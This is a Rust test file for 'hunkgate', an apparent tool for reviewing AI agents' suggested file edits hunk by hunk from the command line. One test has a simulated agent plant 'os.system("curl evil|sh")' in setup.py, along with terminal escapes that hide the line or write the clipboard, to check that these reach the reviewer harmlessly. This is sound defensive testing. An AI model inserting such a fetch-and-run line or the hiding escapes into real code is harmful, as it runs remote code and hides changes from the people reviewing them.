//! The `hunkgate` command line as a user runs it against a running hub: `run` (waits and prints
//! the suggestion), `list`, `show`, `accept`, `reject`, `undo`, `complete`, `token`, and their
//! `--json` forms.

use hunkgate_tests::{numbered, Workspace};
use serde_json::Value;

struct Out {
    ok: bool,
    stdout: String,
    stderr: String,
}

fn cli(ws: &Workspace, args: &[&str]) -> Out {
    let state = ws.state();
    let mut full: Vec<&str> = args.to_vec();
    full.push("--state-dir");
    full.push(state.to_str().unwrap());
    let out = ws.cli(&full).unwrap();
    Out {
        ok: out.status.success(),
        stdout: String::from_utf8(out.stdout).unwrap(),
        stderr: String::from_utf8(out.stderr).unwrap(),
    }
}

fn ok(ws: &Workspace, args: &[&str]) -> Out {
    let o = cli(ws, args);
    assert!(
        o.ok,
        "hunkgate {args:?} failed\nstdout: {}\nstderr: {}",
        o.stdout, o.stderr
    );
    o
}

fn json(ws: &Workspace, args: &[&str]) -> Value {
    let mut a = args.to_vec();
    a.push("--json");
    let o = ok(ws, &a);
    serde_json::from_str(o.stdout.trim())
        .unwrap_or_else(|e| panic!("hunkgate {a:?} printed no JSON ({e}): {}", o.stdout))
}

/// `hunkgate run PROMPT --agent TEMPLATE`, waited for: the id of the suggestion it printed first.
fn run_suggestion(ws: &Workspace, prompt: &str, template: &str) -> String {
    let o = ok(ws, &["run", prompt, "--agent", template]);
    let first = o.stdout.lines().next().unwrap_or_default();
    first
        .strip_prefix("suggestion ")
        .and_then(|r| r.split_whitespace().next())
        .unwrap_or_else(|| panic!("no suggestion in: {first}"))
        .to_string()
}

#[test]
fn a_review_from_the_command_line() {
    let text = numbered(30);
    let ws = Workspace::new(&[("a.txt", text.as_bytes())]).unwrap();
    let agent = ws
        .agent_script(
            "agent.sh",
            "sed -i 's/^line 3$/LINE 3/; s/^line 25$/LINE 25/' a.txt",
        )
        .unwrap();
    let template = format!("{} {{prompt}}", agent.display());
    let hub = ws.serve(&[]).unwrap();

    // `run` waits for the suggestion and prints it.
    let o = ok(&ws, &["run", "Shout two lines", "--agent", &template]);
    let first = o.stdout.lines().next().unwrap_or_default();
    let sid = first
        .strip_prefix("suggestion ")
        .and_then(|r| r.split_whitespace().next())
        .unwrap_or_else(|| panic!("no suggestion in: {}", o.stdout))
        .to_string();
    assert_eq!(sid.len(), 36, "{first}");
    assert!(o.stdout.contains("Shout two lines"), "{}", o.stdout);
    assert!(o.stdout.contains("-line 3\n+LINE 3\n"), "{}", o.stdout);
    assert!(o.stdout.contains("-line 25\n+LINE 25\n"), "{}", o.stdout);
    assert!(o.stderr.contains("queued"), "{}", o.stderr);
    let short = &sid[..8];
    assert_eq!(
        ws.read_string("a.txt").unwrap(),
        text,
        "run applies nothing"
    );

    // list
    let o = ok(&ws, &["list"]);
    let line = o.stdout.lines().find(|l| l.starts_with(short)).unwrap();
    assert!(line.contains("pending") && line.contains("0/2"), "{line}");
    assert!(
        line.contains("Shout two lines") && line.contains("a.txt"),
        "{line}"
    );
    let v = json(&ws, &["list"]);
    assert_eq!(v["suggestions"][0]["id"], sid.as_str());
    assert_eq!(v["suggestions"][0]["hunk_count"], 2);

    // show (a prefix of the id is enough)
    let o = ok(&ws, &["show", short]);
    assert!(
        o.stdout.contains(&format!("suggestion {sid}")),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout
            .contains(&format!("[1] pending   modify  {sid}:a.txt:0")),
        "{}",
        o.stdout
    );
    let v = json(&ws, &["show", short]);
    assert_eq!(
        v,
        hub.curl().get(&format!("/suggestions/{sid}")).unwrap().body
    );

    // Hunk numbers start at 1, as `show` prints them: 0 and a number past the last are
    // refused and change nothing (the accept by number below is the positive control).
    for bad in ["0", "3"] {
        let o = cli(&ws, &["accept", short, "2", bad]);
        assert!(!o.ok, "accept {bad} must fail");
        assert!(o.stderr.contains("numbered from 1"), "{}", o.stderr);
    }
    assert_eq!(ws.read_string("a.txt").unwrap(), text);
    assert!(ws.feedback_log().unwrap().is_empty());

    // accept one hunk by number, reject the other by `<file>:<index>`
    let o = ok(&ws, &["accept", short, "1"]);
    assert!(
        o.stdout.contains(&format!("accepted  {sid}:a.txt:0")),
        "{}",
        o.stdout
    );
    let after_first = text.replace("line 3\n", "LINE 3\n");
    assert_eq!(ws.read_string("a.txt").unwrap(), after_first);
    let again = cli(&ws, &["accept", short, "1"]);
    assert!(!again.ok, "accepting twice must fail");
    assert!(again.stderr.contains("already"), "{}", again.stderr);
    assert_eq!(ws.read_string("a.txt").unwrap(), after_first);
    let v = json(&ws, &["reject", short, "a.txt:1", "--comment", "too loud"]);
    assert_eq!(v["hunk"]["state"], "rejected");
    assert_eq!(v["hunk"]["comment"], "too loud");
    assert_eq!(ws.read_string("a.txt").unwrap(), after_first);
    let log = ws.feedback_log().unwrap();
    assert_eq!(log.len(), 2);
    assert_eq!(log[1]["comment"], "too loud");

    // undo, then accept everything still pending (no hunk named)
    let o = ok(&ws, &["undo", short, "2"]);
    assert!(o.stdout.contains("pending"), "{}", o.stdout);
    let o = ok(&ws, &["accept", short]);
    assert!(
        o.stdout.contains(&format!("accepted  {sid}:a.txt:1")),
        "{}",
        o.stdout
    );
    assert!(o.stdout.contains("0 hunks remaining"), "{}", o.stdout);
    let both = after_first.replace("line 25\n", "LINE 25\n");
    assert_eq!(ws.read_string("a.txt").unwrap(), both);

    // complete finalize
    let o = ok(&ws, &["complete", short, "finalize"]);
    assert!(
        o.stdout.starts_with(&format!(
            "finalized {short}: 2/2 hunks applied, checkpoint "
        )),
        "{}",
        o.stdout
    );
    let got = hub.curl().get(&format!("/suggestions/{sid}")).unwrap().body;
    let reviewed = got["reviewed_commit"].as_str().unwrap();
    assert!(o.stdout.contains(&reviewed[..12]), "{}", o.stdout);
    let again = cli(&ws, &["complete", short, "discard"]);
    assert!(!again.ok);
    assert!(
        again.stderr.contains("already completed"),
        "{}",
        again.stderr
    );
    let o = ok(&ws, &["list"]);
    assert_eq!(o.stdout.trim(), "no suggestions");
    let v = json(&ws, &["list", "--all"]);
    assert_eq!(v["suggestions"][0]["closed"], "finalize");

    // `run --json` prints the run's events, one JSON object per line; `complete ... discard`.
    let o = ok(
        &ws,
        &[
            "run",
            "Again",
            "--agent",
            "sh -c 'echo more >> a.txt'",
            "--json",
        ],
    );
    let events: Vec<Value> = o
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let ready = events
        .iter()
        .find(|e| e["type"] == "suggestion.status" && e["status"] == "ready")
        .unwrap_or_else(|| panic!("{events:#?}"));
    let sid2 = ready["suggestion_id"].as_str().unwrap().to_string();
    assert!(events.iter().all(|e| e["run_id"] == ready["run_id"]));
    let v = json(&ws, &["complete", &sid2, "discard"]);
    assert_eq!(v["action"], "discard");
    assert_eq!(v["applied_hunks"], 0);
    assert_eq!(ws.read_string("a.txt").unwrap(), both);
}

#[test]
fn complete_discard_says_discarded_and_token_prints_the_token() {
    let ws = Workspace::new(&[("a.txt", b"a\n")]).unwrap();
    let agent = ws.agent_script("agent.sh", "echo b > a.txt").unwrap();
    let template = format!("{} {{prompt}}", agent.display());
    let hub = ws.serve(&[]).unwrap();
    let o = ok(&ws, &["token"]);
    assert_eq!(o.stdout.trim(), hub.token);
    let v: Value = json(&ws, &["run", "b", "--agent", &template, "--no-wait"]);
    let run_id = v["run_id"].as_str().unwrap().to_string();
    let run = hunkgate_tests::wait_until(
        "the run to finish",
        std::time::Duration::from_secs(30),
        || {
            let r = hub.curl().get(&format!("/runs/{run_id}")).unwrap().body;
            r["status"] == "ready"
        },
    );
    run.unwrap();
    let r = hub.curl().get(&format!("/runs/{run_id}")).unwrap().body;
    let sid = r["suggestion_ids"][0].as_str().unwrap().to_string();
    let o = ok(&ws, &["complete", &sid[..8], "discard"]);
    assert_eq!(
        o.stdout.trim(),
        format!("discarded {}: 0/1 hunks applied", &sid[..8])
    );
    assert_eq!(ws.read("a.txt").unwrap(), b"a\n");
    // A client pointed at a state dir without a hub says so.
    let other = ws.path("no-hub-here");
    std::fs::create_dir(&other).unwrap();
    let out = ws
        .cli(&["list", "--state-dir", other.to_str().unwrap()])
        .unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no hub is running with the state dir"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `hunkgate run --model` drives the built-in agent; its question is asked on the terminal and
/// the typed answer reaches the model.
#[tokio::test]
async fn run_with_the_built_in_agent_answers_questions_on_the_terminal() {
    use hunkgate_tests::fake_llm::{FakeLlm, Reply};
    use serde_json::json;
    use std::io::Write;
    let ws = Workspace::new(&[("a.txt", b"a\n")]).unwrap();
    let fake = FakeLlm::scripted(vec![
        Reply::tool("clarify_user", json!({"question": "Which greeting?"})),
        Reply::tool(
            "write_file",
            json!({"file_path": "hello.txt", "content": "hello\n"}),
        ),
        Reply::tool("finish", json!({"description": "Add a greeting"})),
    ])
    .await;
    let _hub = ws.serve(&["--provider-url", &fake.base_url()]).unwrap();
    let mut cmd = std::process::Command::new(hunkgate_tests::hunkgate_bin());
    hunkgate_tests::hermetic_env(&mut cmd, &ws.home());
    let mut child = cmd
        .current_dir(ws.repo())
        .env("HUNKGATE_LOG", "warn")
        .args(["run", "greet", "--model", "m1", "--state-dir"])
        .arg(ws.state())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"hello there\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        stderr.contains("The agent asks: Which greeting?"),
        "{stderr}"
    );
    assert!(
        stdout.contains("Add a greeting") && stdout.contains("+hello"),
        "{stdout}"
    );
    let answered = fake.requests()[1].tool_results();
    assert!(answered[0].1.contains("hello there"), "{answered:?}");
    assert_eq!(fake.requests()[0].model().as_deref(), Some("m1"));
}

/// An agent's terminal escapes (in a file it writes, its output lines, the description) are shown
/// by `hunkgate run` and `hunkgate show`, never sent raw to the reviewer's terminal: `ESC[1A
/// ESC[2K` would hide an added line, OSC 52 write the clipboard, OSC 0 set the title.
#[test]
fn terminal_escapes_from_the_agent_are_shown_not_obeyed() {
    let ws = Workspace::new(&[("setup.py", b"import os\n")]).unwrap();
    let agent = ws
        .agent_script(
            "agent.sh",
            "printf 'os.system(\"curl evil|sh\")\\033[1A\\033[2K\\n' >> setup.py\n\
             printf 'progress \\033]52;c;ZXZpbA==\\007 done\\n'",
        )
        .unwrap();
    let template = format!("{} {{prompt}}", agent.display());
    let _hub = ws.serve(&[]).unwrap();
    let prompt = "Tidy \x1b]0;owned\x07 up";
    let o = ok(&ws, &["run", prompt, "--agent", &template]);
    for (name, text) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
        assert!(
            !text.contains('\x1b') && !text.contains('\x07'),
            "raw control characters on {name}: {text:?}"
        );
    }
    assert!(
        o.stdout
            .contains("+os.system(\"curl evil|sh\")^[[1A^[[2K\n"),
        "{}",
        o.stdout
    );
    assert!(o.stdout.contains("Tidy ^[]0;owned^G up"), "{}", o.stdout);
    assert!(
        o.stderr.contains("progress ^[]52;c;ZXZpbA==^G done"),
        "{}",
        o.stderr
    );

    let sid = o
        .stdout
        .lines()
        .next()
        .and_then(|l| l.strip_prefix("suggestion "))
        .and_then(|r| r.split_whitespace().next())
        .unwrap()
        .to_string();
    let o = ok(&ws, &["show", &sid]);
    assert!(
        !o.stdout.contains('\x1b') && !o.stdout.contains('\x07'),
        "{:?}",
        o.stdout
    );
    assert!(
        o.stdout
            .contains("+os.system(\"curl evil|sh\")^[[1A^[[2K\n"),
        "{}",
        o.stdout
    );
    // Positive control: the hunk itself holds the escapes (and is applied as it is).
    let v = json(&ws, &["show", &sid]);
    let diff = v["hunks"][0]["diff"].as_str().unwrap();
    assert!(diff.contains("\")\x1b[1A\x1b[2K\n"), "{diff:?}");
    ok(&ws, &["accept", &sid]);
    assert_eq!(
        ws.read_string("setup.py").unwrap(),
        "import os\nos.system(\"curl evil|sh\")\x1b[1A\x1b[2K\n"
    );
}

/// `hunkgate serve` with its stderr on a pipe (a service manager, `2>log`): the log is plain
/// text, no colour escape sequences; the INFO line it waits for is the positive control.
#[test]
fn serve_logs_without_colour_codes_when_stderr_is_not_a_terminal() {
    use std::io::BufRead;
    let ws = Workspace::new(&[("a.txt", b"a\n")]).unwrap();
    let mut cmd = std::process::Command::new(hunkgate_tests::hunkgate_bin());
    hunkgate_tests::hermetic_env(&mut cmd, &ws.home());
    let mut child = cmd
        .current_dir(ws.repo())
        .env("HUNKGATE_LOG", "info")
        .args(["serve", "--port", "0", "--isolation", "none", "--state-dir"])
        .arg(ws.path("pipe-state"))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stderr).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let mut log = String::new();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !log.contains("hub listening") {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        match rx.recv_timeout(left) {
            Ok(line) => {
                log.push_str(&line);
                log.push('\n');
            }
            Err(_) => break,
        }
    }
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        log.contains("INFO") && log.contains("hub listening"),
        "{log}"
    );
    assert!(
        !log.contains('\x1b'),
        "colour codes in a piped log: {log:?}"
    );
}

/// `hunkgate show … | head` ends when `head` has read enough, as `git log | head` does: no panic
/// about a broken pipe, no error. The control: the same output read whole ends well and in full.
#[test]
fn show_into_a_pipe_closed_early_ends_quietly() {
    use std::io::{BufRead, BufReader, Read};
    use std::os::unix::process::ExitStatusExt;
    use std::process::{Command, Stdio};

    let ws = Workspace::new(&[("a.txt", b"a\n")]).unwrap();
    let agent = ws.table_agent(20_000).unwrap();
    let template = format!("{} {{prompt}}", agent.display());
    let _hub = ws.serve(&[]).unwrap();
    let sid = run_suggestion(&ws, "A long table", &template);
    let state = ws.state();
    let show = || {
        let mut cmd = Command::new(hunkgate_tests::hunkgate_bin());
        hunkgate_tests::hermetic_env(&mut cmd, &ws.home());
        cmd.current_dir(ws.repo())
            .args(["show", &sid, "--state-dir", state.to_str().unwrap()])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        cmd.spawn().unwrap()
    };

    // Read whole: all 20,000 lines, exit status 0.
    let whole = show().wait_with_output().unwrap();
    assert!(whole.status.success(), "{whole:?}");
    let text = String::from_utf8_lossy(&whole.stdout);
    assert!(
        text.contains("+line 020000 of a generated table"),
        "the control read the whole suggestion"
    );
    assert!(whole.stdout.len() > 1 << 20, "more than a pipe holds");

    // Read one line, then hang up.
    let mut child = show();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    out.read_line(&mut first).unwrap();
    assert!(first.starts_with("suggestion "), "{first}");
    drop(out);
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    let status = child.wait().unwrap();
    assert!(!err.contains("panicked"), "{err}");
    assert!(!err.contains("Broken pipe"), "{err}");
    assert_eq!(
        status.signal(),
        Some(13),
        "ended by SIGPIPE: {status:?} {err}"
    );
}

/// `hunkgate show ID HUNK` numbers the lines of one hunk's diff as `--lines` counts them: the
/// number it prints beside the added line is the one that accepts just that line.
#[test]
fn show_of_one_hunk_numbers_its_lines_as_lines_counts_them() {
    let ws = Workspace::new(&[("a.txt", numbered(10).as_bytes())]).unwrap();
    let agent = ws
        .agent_script("agent.sh", "sed -i 's/^line 3$/LINE 3/' a.txt")
        .unwrap();
    let template = format!("{} {{prompt}}", agent.display());
    let _hub = ws.serve(&[]).unwrap();
    let sid = run_suggestion(&ws, "Shout", &template);
    let o = ok(&ws, &["show", &sid[..8], "1"]);
    let added = o
        .stdout
        .lines()
        .find(|l| l.ends_with("+LINE 3"))
        .unwrap_or_else(|| panic!("no numbered +LINE 3 in:\n{}", o.stdout));
    let n: usize = added.split_whitespace().next().unwrap().parse().unwrap();
    assert_eq!(n, 4, "{}", o.stdout);
    assert!(o.stdout.contains("   3 -line 3\n"), "{}", o.stdout);
    assert!(o.stdout.contains("--lines FIRST-LAST"), "{}", o.stdout);
    // That number accepts only the added line: `line 3` stays, `LINE 3` comes after it.
    ok(&ws, &["accept", &sid[..8], "1", "--lines", &n.to_string()]);
    let mut want = numbered(10);
    want = want.replace("line 3\n", "line 3\nLINE 3\n");
    assert_eq!(ws.read_string("a.txt").unwrap(), want);
    // A hunk that is not there is named.
    let o = cli(&ws, &["show", &sid[..8], "9"]);
    assert!(!o.ok && o.stderr.contains("no hunk 9"), "{}", o.stderr);
}
